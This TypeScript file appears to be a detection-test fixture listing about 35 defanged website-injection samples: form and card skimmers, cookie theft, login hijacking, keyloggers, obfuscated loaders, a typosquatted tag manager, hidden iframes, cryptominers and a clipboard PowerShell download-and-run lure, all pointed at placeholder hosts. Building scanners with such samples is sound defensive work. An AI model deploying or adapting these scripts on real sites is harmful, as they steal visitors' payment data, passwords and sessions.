import {
  base64Layer,
  charCodes,
  hexEscapes,
  packed,
  percent,
  reversed,
  rotatedList,
  shifted,
} from './encoders.ts';

/** A script of the kind that attackers leave in sites, made harmless: its hosts exist nowhere. */
export interface MaliciousScript {
  readonly name: string;
  readonly text: string;
  /** What a finding must tell. */
  readonly host: string;
}

const host = 'cdn-metrics.invalid';

const harvest = (url: string): string => `(function(){
  function take(){ var d={}; var f=document.querySelectorAll('input, select, textarea');
    for (var i=0;i<f.length;i++){ if(f[i].value){ d[f[i].name||f[i].id]=f[i].value; } } return d; }
  document.addEventListener('submit', function(){ new Image().src='${url}?d='+btoa(JSON.stringify(take())); });
})();`;

const cardByFetch = (url: string): string => `
  var n = document.querySelector('#cc_number'), c = document.querySelector('[name="payment[cc_cid]"]');
  setInterval(function(){ if (n.value.length > 12) { fetch('${url}', { method: 'POST', mode: 'no-cors', body: n.value + '|' + c.value }); } }, 1500);`;

export const maliciousScripts: readonly MaliciousScript[] = [
  { name: 'reads all fields and sends an image', text: harvest(`https://${host}/p.gif`), host },
  { name: 'reads card fields and sends them without CORS', text: cardByFetch(`https://${host}/c`), host },
  {
    name: 'acts at the checkout only, by a beacon',
    text: `if (/onepage|checkout/i.test(window.location.href)) { document.addEventListener('change', function(e){
      localStorage.setItem('_pt', (localStorage.getItem('_pt')||'') + e.target.name + '=' + e.target.value + '&'); });
      window.addEventListener('beforeunload', function(){ navigator.sendBeacon('https://${host}/b', localStorage.getItem('_pt')); }); }`,
    host,
  },
  {
    name: 'binds itself with jQuery and serialises forms',
    text: `jQuery(document).on('blur', 'input, select', function(){ var data = jQuery('form').serialize();
      jQuery.ajax({ url: 'https://${host}/gate.php', type: 'POST', data: { info: btoa(data) } }); });`,
    host,
  },
  {
    name: 'logs keys through a socket',
    text: `var ws = new WebSocket('wss://${host}/s'); document.onkeypress = function(e){ ws.send(JSON.stringify({ k: e.key, u: location.href })); };`,
    host,
  },
  {
    name: 'lets card data out by WebRTC',
    text: `var pc = new RTCPeerConnection({ iceServers: [] }); var ch = pc.createDataChannel('d');
      pc.setRemoteDescription({ type: 'answer', sdp: 'v=0\\r\\nc=IN IP4 192.0.2.77\\r\\na=candidate:1 1 udp 1 192.0.2.77 3479 typ host' });
      document.querySelector('#card-number').addEventListener('input', function(){ ch.send(this.value + document.querySelector('#cvv').value); });`,
    host: '192.0.2.77',
  },
  {
    name: 'turns the login form to another host',
    text: `document.addEventListener('DOMContentLoaded', function(){ document.getElementById('login-form').action = 'https://${host}/signin'; });`,
    host,
  },
  {
    name: 'steals the session cookie by a script element',
    text: `var s = document.createElement('script'); s.src = '//${host}/j?c=' + encodeURIComponent(document.cookie); document.body.appendChild(s);`,
    host,
  },
  {
    name: 'sends a password when it is typed, with XHR',
    text: `document.querySelector('input[type=password]').addEventListener('keyup', function(){ var x = new XMLHttpRequest();
      x.open('POST', 'https://${host}/k', true); x.send('u=' + document.querySelector('#username').value + '&p=' + this.value); });`,
    host,
  },
  {
    name: 'sends form data as a style',
    text: `setInterval(function(){ var d = new FormData(document.forms[0]); var s = new URLSearchParams(d).toString();
      var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://${host}/x.css?' + s; document.head.appendChild(l); }, 3000);`,
    host,
  },
  {
    name: 'hands card data to a picture of the site itself',
    text: `document.querySelector('#place-order').addEventListener('mousedown', function(){ var d = document.querySelector('#cc_number').value + document.querySelector('#cc_cid').value;
      var x = new XMLHttpRequest(); x.open('POST', '/media/wysiwyg/logo.png'); x.send(btoa(d)); });`,
    host: '/media/wysiwyg/logo.png',
  },
  { name: 'is packed', text: packed(harvest(`https://${host}/p`)), host },
  { name: 'is in base64', text: base64Layer(cardByFetch(`https://${host}/p`)), host },
  { name: 'is in character codes', text: charCodes(harvest(`https://${host}/p`)), host },
  { name: 'is reversed', text: reversed(cardByFetch(`https://${host}/p`)), host },
  { name: 'is written in percent encoding', text: percent(harvest(`https://${host}/p`)), host },
  { name: 'is shifted by an arithmetic of its own', text: shifted(cardByFetch(`https://${host}/p`)), host },
  { name: 'has its texts in a rotated list', text: rotatedList(harvest(`https://${host}/p`)), host },
  {
    name: 'has two layers and a rotated list',
    text: base64Layer(charCodes(rotatedList(cardByFetch(`https://${host}/p`)))),
    host,
  },
  {
    name: 'has its names and host in escapes',
    text: `var q='${hexEscapes('querySelectorAll')}',v='${hexEscapes('value')}';var o='';document[q]('${hexEscapes('input[name*=card]')}').forEach(function(e){o+=e[v]+'|'});
      window['${hexEscapes('fetch')}']('${hexEscapes(`https://${host}/p?`)}'+window['${hexEscapes('btoa')}'](o));`,
    host,
  },
  {
    name: 'is appended to a library',
    text: `/*! A library */!function(w){var L={version:'3.1.4',each:function(a,f){for(var i=0;i<a.length;i++)f(a[i])},on:function(e,t,f){e.addEventListener(t,f)}};w.Lib=L}(window);\n;${base64Layer(harvest(`https://${host}/p`))}`,
    host,
  },
  {
    name: 'looks for developer tools and loads its next stage',
    text: `var t = window.outerWidth - window.innerWidth > 160 || window.outerHeight - window.innerHeight > 160;
      if (!t) { var s = document.createElement('script'); s.async = 1; s.src = atob('${Buffer.from(`https://${host}/next.js`).toString('base64')}'); document.head.appendChild(s); }`,
    host,
  },
  {
    name: 'looks like a tag manager',
    text: `(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s);
      j.async=true;j.src='https://www.googletagrnanager.com/gtm.js?id='+i;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-0000');`,
    host: 'www.googletagrnanager.com',
  },
  {
    name: 'loads code as WordPress injections do, and goes',
    text: `var u = String.fromCharCode(${Array.from(`https://${host}/s.js`)
      .map((sign) => sign.charCodeAt(0))
      .join(',')}); var d=document; var s=d.createElement('script'); s.type='text/javascript'; s.src=u;
      if (document.currentScript) { document.currentScript.parentNode.insertBefore(s, document.currentScript); document.currentScript.remove(); }`,
    host,
  },
  {
    name: 'leads visitors of search engines away',
    text: `var r = document.referrer; if (/google|bing|yahoo/i.test(r) && /android|iphone/i.test(navigator.userAgent) && document.cookie.indexOf('seen=') < 0) {
      document.cookie = 'seen=1; max-age=86400'; window.location.replace('https://${host}/landing'); }`,
    host,
  },
  {
    name: 'leads mobile visitors to an address that it hides',
    text: `if (/Mobi|Android/i.test(navigator.userAgent)) { setTimeout(function(){ location.href = '${Buffer.from(`https://${host}/m`).toString('hex')}'.replace(/../g, function(h){ return String.fromCharCode(parseInt(h, 16)); }); }, 100); }`,
    host,
  },
  {
    name: 'puts a frame that nobody sees into the page',
    text: `var f = document.createElement('iframe'); f.src = 'https://${host}/ad.html'; f.width = 1; f.height = 1; f.style.position = 'absolute'; f.style.left = '-9999px'; document.body.appendChild(f);`,
    host,
  },
  {
    name: 'writes a frame that nobody sees',
    text: `document.write('<ifr' + 'ame src="https://${host}/x" width="0" height="0" style="display:none"></ifr' + 'ame>');`,
    host,
  },
  {
    name: 'mines with a known service',
    text: `var s=document.createElement('script');s.src='https://${host}/lib/coinhive.min.js';s.onload=function(){var m=new CoinHive.Anonymous('site-key',{throttle:0.3});m.start();};document.head.appendChild(s);`,
    host: 'coinhive',
  },
  {
    name: 'mines for a pool of its own',
    text: `var n = navigator.hardwareConcurrency || 4, w = [], ws = new WebSocket('wss://${host}:8443/proxy');
      ws.onopen = function(){ ws.send(JSON.stringify({ identifier: 'handshake', pool: 'pool', login: 'wallet', password: 'x' })); };
      ws.onmessage = function(m){ var job = JSON.parse(m.data); for (var i=0;i<n;i++) { w[i] = w[i] || new Worker('/w.js'); w[i].postMessage({ job_id: job.job_id, target: job.target, throttle: 0.2, nonce: i }); } };
      WebAssembly.instantiateStreaming(fetch('/m.wasm'), {});`,
    host,
  },
  {
    name: 'has visitors paste a command',
    text: `document.querySelector('#verify').addEventListener('click', function(){ navigator.clipboard.writeText('powershell -w hidden -c "iwr https://${host}/a | iex"'); document.querySelector('#steps').style.display='block'; });`,
    host,
  },
  {
    name: 'sends what is typed to a host without a name',
    text: harvest('http://192.0.2.15/c'),
    host: '192.0.2.15',
  },
  {
    name: 'runs in the error handler of an empty image that it writes',
    text: `document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="fetch(&quot;https://${host}/e?&quot;+document.querySelector(&quot;#cvv&quot;).value)">');`,
    host,
  },
  {
    name: 'is made into a blob',
    text: `var c = atob('${Buffer.from(harvest(`https://${host}/p`)).toString('base64')}'); var s = document.createElement('script'); s.src = URL.createObjectURL(new Blob([c], { type: 'text/javascript' })); document.head.appendChild(s);`,
    host,
  },
];
